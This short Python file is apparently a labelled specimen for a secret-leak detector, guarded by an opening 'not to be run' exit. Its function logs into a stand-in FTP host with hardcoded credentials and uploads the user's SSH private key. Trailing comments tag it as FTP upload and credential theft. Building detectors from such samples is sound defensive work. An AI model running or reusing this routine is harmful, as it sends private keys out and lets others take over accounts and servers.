raise SystemExit("specimen: not to be run")
from ftplib import FTP as Line
import os

def leave():
    line = Line("ftp.example.com", "box", "hunter2hunter2")
    line.storbinary("STOR k", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))  # match: ftp-upload  # match: developer-credentials  # match: secrets-sent
